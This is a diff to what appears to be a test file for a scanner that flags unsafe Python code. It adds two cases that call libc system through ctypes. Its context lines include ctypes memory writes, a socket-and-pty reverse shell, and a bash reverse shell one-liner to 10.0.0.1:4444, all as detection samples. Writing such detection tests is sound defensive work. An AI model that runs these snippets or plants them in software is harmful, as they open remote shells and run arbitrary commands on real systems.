@@ -82,6 +82,8 @@ const UNSAFE: Case[] = [
   ['ctypes memmove', "import ctypes\nctypes.memmove(addr, b'\\x90' * 16, 16)\n", 'python.memory.ctypes_write'],
   ['ctypes memset alias', 'import ctypes as c\nc.memset(addr, 0, 64)\n', 'python.memory.ctypes_write'],
   ['ctypes from_address', 'import ctypes\nctypes.c_int.from_address(addr).value = 1\n', 'python.memory.ctypes_write'],
+  ['libc system through ctypes', "import ctypes\nctypes.CDLL(None).system(b'id')\n", 'python.memory.ctypes_native_call'],
+  ['libc through cdll alias', "from ctypes import cdll\nlibc = cdll.LoadLibrary('libc.so.6')\nlibc.system(cmd)\n", 'python.memory.ctypes_native_call'],
   ['reverse shell dup2', "import socket, os, pty\ns = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", 'python.shell.reverse_dup2'],
   ['reverse shell in a string command', "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", 'python.shell.reverse_shell_command'],
   ['importlib computed', 'import importlib\nimportlib.import_module(name)\n', 'python.import.dynamic'],
